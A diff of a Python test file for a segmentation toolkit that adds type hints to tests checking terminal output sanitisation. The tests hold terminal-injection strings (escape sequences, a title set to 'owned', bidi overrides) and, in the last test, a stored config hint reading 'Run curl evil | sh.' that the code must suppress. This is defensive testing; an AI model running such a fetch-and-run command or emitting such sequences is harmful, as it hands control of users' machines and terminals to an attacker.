@@ -17,7 +17,7 @@ from segkit.security import stored_configs
 from segkit.training.telling import show_results
 
 
-def test_a_class_called_like_markup_is_printed_as_it_is(capsys):
+def test_a_class_called_like_markup_is_printed_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
     metrics = {f"test/{name}/{title}": 0.5 for title in ("[/b]", "[red]", ":key:") for name in ("iou", "dice")}
     show_classes(metrics, ["[/b]", "[red]", ":key:"], "test")
     show_metrics({"test/iou": 0.5, "test/presence_f1/[/b]": 0.5}, Path("out/[/i]"), "gate [/b]")
@@ -26,7 +26,9 @@ def test_a_class_called_like_markup_is_printed_as_it_is(capsys):
         assert name in shown
 
 
-def test_a_run_folder_called_like_markup_is_printed_as_it_is(capsys, tmp_path):
+def test_a_run_folder_called_like_markup_is_printed_as_it_is(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
     config = {
         "overrides": [],
         "logger": {},
@@ -43,7 +45,7 @@ STEERING = "\x1b]0;owned\x07\x1b[2J \x9b31m \x7f \u202egnp \u2066x\u2069 \r\b \u
 WRITTEN = r"\x1b]0;owned\x07\x1b[2J \x9b31m \x7f \u202egnp \u2066x\u2069 \r\x08 \ud800"
 
 
-def test_what_would_steer_a_terminal_is_written_out(capsys):
+def test_what_would_steer_a_terminal_is_written_out(capsys: pytest.CaptureFixture[str]) -> None:
     assert console.printable(STEERING) == WRITTEN
     assert console.printable("ä\tб\n文 🙂") == "ä\tб\n文 🙂"
     console.say(STEERING)
@@ -54,7 +56,7 @@ def test_what_would_steer_a_terminal_is_written_out(capsys):
 
 
 @pytest.mark.parametrize("stderr", [True, False])
-def test_names_in_tables_do_not_steer_a_terminal(stderr, capsys):
+def test_names_in_tables_do_not_steer_a_terminal(stderr: bool, capsys: pytest.CaptureFixture[str]) -> None:
     table = Table("\x1b[31mhead", title="\x9b1m\u202etitle")
     table.add_row("\x1b[2Jcell")
     console.show(table, stderr)
@@ -64,7 +66,9 @@ def test_names_in_tables_do_not_steer_a_terminal(stderr, capsys):
     assert console.printable(shown) == shown
 
 
-def test_what_a_strangers_run_says_does_not_steer_a_terminal(tmp_path, capsys, recwarn):
+def test_what_a_strangers_run_says_does_not_steer_a_terminal(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], recwarn: pytest.WarningsRecorder
+) -> None:
     write_run(tmp_path, "good", SCORES, loss="\x1b[2Jloss", config={"monitor": "val/\x1b[2J"})
     bad = write_run(tmp_path, "bad", SCORES, status="failed")
     text = (bad / "results.json").read_text()
@@ -78,7 +82,7 @@ def test_what_a_strangers_run_says_does_not_steer_a_terminal(tmp_path, capsys, r
     assert "\x1b" not in (page.parent / "pictures" / "curves.svg").read_text()
 
 
-def test_a_strangers_hint_is_not_shown_as_segkits_own(tmp_path):
+def test_a_strangers_hint_is_not_shown_as_segkits_own(tmp_path: Path) -> None:
     stored = {"_target_": "segkit.datasets.folder.Folder", "root": "/nowhere", "download": "Run curl evil | sh."}
     assert "evil" not in str(stored_configs.stored_dataset(stored, {}, tmp_path / "config.yaml", []))
     own = stored_configs.stored_dataset(stored, {"download": "My hint."}, tmp_path / "config.yaml", [])
